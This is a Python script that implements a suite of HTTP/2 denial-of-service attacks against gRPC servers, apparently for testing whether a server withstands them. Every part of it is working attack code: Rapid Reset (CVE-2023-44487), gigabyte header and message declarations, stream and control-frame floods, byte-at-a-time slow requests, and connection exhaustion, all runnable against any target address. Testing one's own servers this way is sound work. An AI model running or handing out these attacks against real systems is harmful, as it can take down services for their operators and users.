#!/usr/bin/env python3
"""A hostile client: what an attacker with a valid certificate can do to a gRPC server.

  hostile.py ATTACK --target 127.0.0.1:8443 --identity DIR [--path /pkg.Service/Method]
             [--source ADDRESS] [--seconds 10] [--count N]

Speaks TLS by the standard library and HTTP/2 by hand, so that it need not obey what a
library would: it ignores limits, never acknowledges SETTINGS, declares what it does not
send. DIR holds tls.crt, tls.key and bundle.pem; with --plain there is no TLS.

Prints one JSON object:
  attack    what was tried
  ended     whether the server ended the connection (all of them, for many)
  seconds   from the first byte of the attack to the end, or how long it was tried
  sent      bytes sent, frames included, TLS not
  frames    frames sent
  opened    connections that got as far as the attack
  resets    streams that the server reset

Exit status 0 where the server ended the attack, 1 where it put up with it, 2 where the
attack could not even begin.
"""
import argparse
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def hpack_text(text):
    raw = text.encode()
    return hpack_int(len(raw), 7) + raw


def hpack_new(name, value):
    """A literal header with a new name, not indexed."""
    return b"\x00" + hpack_text(name) + hpack_text(value)


def request_headers(path):
    return (b"\x83\x87"  # :method POST, :scheme https
            + hpack_int(4, 4) + hpack_text(path) + hpack_int(1, 4) + hpack_text("localhost")
            + hpack_int(31, 4) + hpack_text("application/grpc") + hpack_new("te", "trailers"))


class Connection:
    """One HTTP/2 connection that notes what comes back and answers nothing of it."""

    mute = False  # within a header block or a frame nothing else may be sent

    def __init__(self, options, acknowledge=True, window=1 << 30):
        self.options = options
        self.sent = self.frames = self.resets = 0
        self.windows = {0: 65535}
        self.initial_window = 65535
        self.closed = threading.Event()
        self.grown = threading.Condition()
        self.sending = threading.Lock()
        self.socket = dial(options)
        self.acknowledge = acknowledge
        self.raw(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        threading.Thread(target=self.listen, daemon=True).start()

    def raw(self, data):
        """Sends; False once the server has ended the connection."""
        if self.closed.is_set():
            return False
        try:
            with self.sending:
                self.socket.sendall(data)
        except (OSError, ssl.SSLError, ValueError):
            self.closed.set()
            return False
        self.sent += len(data)
        self.frames += 1
        return True

    def listen(self):
        buffer = b""
        try:
            while not self.closed.is_set():
                data = self.received()
                if not data:
                    break
                buffer += data
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    self.take(buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF,
                              buffer[9:9 + length])
                    buffer = buffer[9 + length:]
        except (OSError, ssl.SSLError, ValueError):
            pass
        self.closed.set()
        with self.grown:
            self.grown.notify_all()

    def received(self):
        return self.socket.recv(65536)

    def take(self, kind, flags, stream, payload):
        if kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self.resets += 1
        elif kind == WINDOW_UPDATE:
            self.grow(stream, int.from_bytes(payload, "big"))
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[at:at + 6])
                if key == 4:
                    self.initial_window = value
            if self.acknowledge:
                self.raw(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK and not self.mute:
            self.raw(frame(PING, ACK, 0, payload))

    def grow(self, stream, by):
        with self.grown:
            self.windows[stream] = self.windows.get(stream, self.initial_window) + by
            self.grown.notify_all()

    def spend(self, stream, wanted, patience):
        """Bytes that flow control allows on the stream now, at most `wanted`."""
        end = time.monotonic() + patience
        with self.grown:
            self.windows.setdefault(stream, self.initial_window)
            while not self.closed.is_set():
                allowed = min(wanted, self.windows[0], self.windows[stream])
                if allowed > 0:
                    self.windows[0] -= allowed
                    self.windows[stream] -= allowed
                    return allowed
                if time.monotonic() >= end:
                    return 0
                self.grown.wait(0.05)
        return 0

    def open(self, stream, flags=END_HEADERS):
        return self.raw(frame(HEADERS, flags, stream, request_headers(self.options.path)))

    def was_greeted(self, end):
        """Waits until the server has spoken: what comes then is the attack and not the handshake."""
        while self.initial_window == 65535 and time.monotonic() < end and not self.closed.is_set():
            time.sleep(0.005)
        return self.initial_window != 65535


def connect(options, timeout=10):
    source = (options.source, 0) if options.source else None
    return socket.create_connection(options.address, timeout=timeout, source_address=source)


class Secured:
    """TLS over a socket, for one thread that sends and another that receives: the standard
    library's own wrapper is not made for two."""

    def __init__(self, plain, context, server=False):
        self.plain = plain
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_side=server,
                                    server_hostname=None if server else "localhost")
        self.lock = threading.Lock()
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self.plain.sendall(self.outgoing.read())
                self.take_in()
        self.plain.sendall(self.outgoing.read())

    def take_in(self):
        data = self.plain.recv(65536)
        if not data:
            raise OSError("the server closed the connection")
        with self.lock:
            self.incoming.write(data)

    def sendall(self, data):
        with self.lock:
            self.tls.write(data)
            encrypted = self.outgoing.read()
        self.plain.sendall(encrypted)

    def recv(self, size):
        while True:
            try:
                with self.lock:
                    return self.tls.read(size)
            except ssl.SSLWantReadError:
                self.take_in()


def dial(options, timeout=10):
    plain = connect(options, timeout)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection = plain if options.plain else Secured(plain, options.tls)
    plain.settimeout(None)
    return connection


# --- attacks: each gets a connection and goes on until the time is over or the server ends it


def burst(connection, end, make):
    """Sends what make(n) returns, as fast as can be."""
    n = 0
    while time.monotonic() < end and connection.raw(make(n)):
        n += 1


def rapid_reset(connection, end):
    """CVE-2023-44487: opens streams and resets them at once."""
    headers = request_headers(connection.options.path)

    def make(n):
        streams = range(2 * 50 * n + 1, 2 * 50 * (n + 1) + 1, 2)
        return b"".join(frame(HEADERS, END_HEADERS, s, headers) +
                        frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in streams)

    burst(connection, end, make)


def open_flood(connection, end):
    """Opens streams and leaves them open, far beyond the limit."""
    headers = request_headers(connection.options.path)
    burst(connection, end,
          lambda n: b"".join(frame(HEADERS, END_HEADERS, s, headers)
                             for s in range(2 * 50 * n + 1, 2 * 50 * (n + 1) + 1, 2)))


def endless_headers(connection, end):
    """A header block that never ends: CONTINUATION after CONTINUATION."""
    connection.raw(frame(HEADERS, 0, 1, request_headers(connection.options.path)))
    filler = hpack_new("x-filler", "y" * 16000)
    burst(connection, end, lambda n: frame(CONTINUATION, 0, 1, filler))


def giant_header(connection, end):
    """CVE-2023-33953: one header value declared as 1 GiB, in pieces; the cost is quadratic."""
    head = request_headers(connection.options.path) + b"\x00" + hpack_text("x-giant") + hpack_int(
        1 << 30, 7)
    connection.raw(frame(HEADERS, 0, 1, head))
    burst(connection, end, lambda n: frame(CONTINUATION, 0, 1, b"z" * 1000) * 16)


def late_giant_header(connection, end):
    """The same after a call that stays open: an idle connection is allowed less."""
    connection.open(1)
    head = request_headers(connection.options.path) + b"\x00" + hpack_text("x-giant") + hpack_int(
        1 << 30, 7)
    connection.mute = True
    connection.raw(frame(HEADERS, 0, 3, head))
    burst(connection, end, lambda n: frame(CONTINUATION, 0, 3, b"z" * 1000) * 16)


def giant_message(connection, end):
    """One message declared as 1 GiB, as far as flow control lets it."""
    connection.open(1)
    header = b"\x00" + struct.pack(">I", 1 << 30)
    if connection.spend(1, len(header), 1) == len(header):
        connection.raw(frame(DATA, 0, 1, header))
    while time.monotonic() < end and not connection.closed.is_set():
        allowed = connection.spend(1, 16384, 0.5)
        if allowed:
            connection.raw(frame(DATA, 0, 1, b"m" * allowed))


def many_giant_messages(connection, end):
    """The same on forty streams at once, each within its own window."""
    streams = range(1, 81, 2)
    header = b"\x00" + struct.pack(">I", 1 << 30)
    for stream in streams:
        connection.open(stream)
        if connection.spend(stream, len(header), 1) == len(header):
            connection.raw(frame(DATA, 0, stream, header))
    while time.monotonic() < end and not connection.closed.is_set():
        for stream in streams:
            allowed = connection.spend(stream, 16384, 0.001)
            if allowed:
                connection.raw(frame(DATA, 0, stream, b"m" * allowed))


def trickle(connection, end):
    """A message of 1,000 bytes at one byte a second, answering pings all the while."""
    connection.open(1)
    connection.raw(frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 1000)))
    while time.monotonic() < end and not connection.closed.is_set() and connection.resets == 0:
        connection.raw(frame(DATA, 0, 1, b"t"))
        connection.closed.wait(1)
    if connection.resets:
        connection.closed.set()  # the call is what was to be ended


def byte_by_byte(connection, end, make):
    """Sends what make() returns once a second."""
    while time.monotonic() < end and not connection.closed.is_set() and connection.raw(make()):
        connection.closed.wait(1)


def unfinished_headers(connection):
    """A header block up to a value of 1,000 bytes, none of which is there."""
    return request_headers(connection.options.path) + b"\x00" + hpack_text("x-slow") + hpack_int(1000, 7)


def trickled_headers(connection, end):
    """A header block at one byte a second, each in a frame of its own."""
    connection.raw(frame(HEADERS, 0, 1, unfinished_headers(connection)))
    byte_by_byte(connection, end, lambda: frame(CONTINUATION, 0, 1, b"h"))


def trickled_header_frame(connection, end):
    """The same within one frame."""
    start = unfinished_headers(connection)
    whole = frame(HEADERS, END_HEADERS, 1, start + bytes(1000))
    connection.raw(whole[:9 + len(start)])
    byte_by_byte(connection, end, lambda: b"h")


def late_trickled_headers(connection, end):
    """The same after a call that stays open."""
    connection.open(1)
    connection.raw(frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 0)))
    connection.mute = True
    connection.raw(frame(HEADERS, 0, 3, unfinished_headers(connection)))
    byte_by_byte(connection, end, lambda: frame(CONTINUATION, 0, 3, b"h"))


def trickled_data(connection, end):
    """A call's second message at one byte a second, within one frame."""
    connection.open(1)
    connection.raw(frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 0)))
    connection.mute = True
    connection.raw(frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 1000) + bytes(1000))[:14])
    byte_by_byte(connection, end, lambda: b"t")


def window_updates(connection, end):
    """WINDOW_UPDATE of one byte for the connection, a thousand at a time."""
    many = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000
    burst(connection, end, lambda n: many)


def pings(connection, end):
    many = frame(PING, 0, 0, b"12345678") * 1000
    burst(connection, end, lambda n: many)


def settings(connection, end):
    many = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1000
    burst(connection, end, lambda n: many)


def priorities(connection, end):
    many = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 1000
    burst(connection, end, lambda n: many)


def unknown_frames(connection, end):
    many = frame(0xBB, 0, 0, b"") * 1000
    burst(connection, end, lambda n: many)


def empty_data(connection, end):
    """Empty DATA frames on an open stream: work without a message."""
    connection.open(1)
    many = frame(DATA, 0, 1, b"") * 1000
    burst(connection, end, lambda n: many)


ON_A_CONNECTION = {
    "rapid-reset": rapid_reset, "open-flood": open_flood, "endless-headers": endless_headers,
    "giant-header": giant_header, "late-giant-header": late_giant_header, "giant-message": giant_message,
    "many-giant-messages": many_giant_messages, "trickle": trickle,
    "trickled-headers": trickled_headers, "trickled-header-frame": trickled_header_frame,
    "late-trickled-headers": late_trickled_headers, "trickled-data": trickled_data,
    "window-updates": window_updates, "pings": pings, "settings": settings, "priorities": priorities,
    "unknown-frames": unknown_frames, "empty-data": empty_data
}
# Those that never acknowledge the server's settings: its limits then do not hold in gRPC.
UNACKNOWLEDGED = {
    "open-flood", "endless-headers", "giant-header", "late-giant-header", "trickled-headers"
}


def greeted(options):
    """A connection that the server has taken. A server gives a handshake little time; on a busy
    machine that may be too little for an attacker who has to wait for his turn."""
    end = time.monotonic() + options.seconds
    while True:
        try:
            connection = Connection(options, acknowledge=options.attack not in UNACKNOWLEDGED)
            if connection.was_greeted(end):
                return connection
        except (OSError, ssl.SSLError):
            pass
        if time.monotonic() > end:
            raise OSError("the server took no connection")
        time.sleep(0.1)


def on_a_connection(options):
    connection = greeted(options)
    start = time.monotonic()
    ON_A_CONNECTION[options.attack](connection, start + options.seconds)
    # What the server did is seen a moment after the last write.
    ended = connection.closed.wait(2)
    return {
        "ended": ended, "seconds": time.monotonic() - start, "sent": connection.sent,
        "frames": connection.frames, "opened": 1, "resets": connection.resets
    }


def silent(options):
    """TCP connections that say nothing: the server must not wait for ever."""
    start = time.monotonic()
    sockets = [connect(options) for _ in range(options.count)]
    ended = 0
    end = start + options.seconds
    while sockets and time.monotonic() < end:
        readable, _, _ = select.select(sockets, [], [], 0.2)
        for ready in readable:
            if not received_by(ready):
                sockets.remove(ready)
                ended += 1
    return {
        "ended": not sockets, "seconds": time.monotonic() - start, "sent": 0, "frames": 0,
        "opened": ended + len(sockets), "resets": 0
    }


def received_by(sock):
    try:
        return sock.recv(65536)
    except OSError:
        return b""


def connections(options):
    """As many TLS connections at once as the server takes, held open."""
    start = time.monotonic()
    held = []
    refused = 0
    for _ in range(options.count):
        try:
            held.append(dial(options, timeout=5))
        except (OSError, ssl.SSLError):
            refused += 1
        if time.monotonic() - start > options.seconds:
            break
    return {
        "ended": refused > 0, "seconds": time.monotonic() - start, "sent": 0, "frames": 0,
        "opened": len(held), "resets": refused
    }


def slow_readers(options):
    """Streams that ask for much, and never a byte is read: --message is the request of each."""
    start = time.monotonic()
    held = []
    headers = request_headers(options.path)
    request = bytes.fromhex(options.message)
    request = b"\x00" + struct.pack(">I", len(request)) + request
    for _ in range(options.count):
        try:
            connection = dial(options)
            # The largest windows, so that the server may send what it likes.
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) +
                               frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)) +
                               b"".join(frame(HEADERS, END_HEADERS, s, headers) + frame(DATA, 0, s, request)
                                        for s in range(1, 20, 2)))
            held.append(connection)
        except (OSError, ssl.SSLError):
            pass
    while time.monotonic() < start + options.seconds:
        time.sleep(0.2)
    return {
        "ended": False, "seconds": time.monotonic() - start, "sent": 0, "frames": 0,
        "opened": len(held), "resets": 0
    }


ATTACKS = sorted(list(ON_A_CONNECTION) + ["silent", "connections", "slow-readers"])


def address_of(target):
    host, _, port = target.rpartition(":")
    return host.strip("[]"), int(port)


def client_tls(identity):
    """What a client with the folder `identity` says in a handshake."""
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname = False
    tls.load_verify_locations(os.path.join(identity, "bundle.pem"))
    tls.load_cert_chain(os.path.join(identity, "tls.crt"), os.path.join(identity, "tls.key"))
    tls.set_alpn_protocols(["h2"])
    return tls


def parse(arguments):
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--target", required=True, help="host:port")
    parser.add_argument("--identity", help="folder with tls.crt, tls.key and bundle.pem")
    parser.add_argument("--plain", action="store_true", help="no TLS")
    parser.add_argument("--path", default="/grpc.health.v1.Health/Check", help="method to call")
    parser.add_argument("--message", default="", help="a request in hexadecimal, where one is sent")
    parser.add_argument("--source", help="local address to come from")
    parser.add_argument("--seconds", type=float, default=10, help="how long to try")
    parser.add_argument("--count", type=int, default=2000, help="connections, where it is many")
    options = parser.parse_args(arguments)
    options.address = address_of(options.target)
    if not options.plain:
        options.tls = client_tls(options.identity)
    return options


def main():
    options = parse(sys.argv[1:])
    many = {"silent": silent, "connections": connections, "slow-readers": slow_readers}
    run = many.get(options.attack, on_a_connection)
    try:
        result = run(options)
    except (OSError, ssl.SSLError) as error:
        print(json.dumps({"attack": options.attack, "error": str(error)}))
        return 2
    result["seconds"] = round(result["seconds"], 3)
    print(json.dumps({"attack": options.attack, **result}))
    return 0 if result["ended"] else 1


if __name__ == "__main__":
    sys.exit(main())
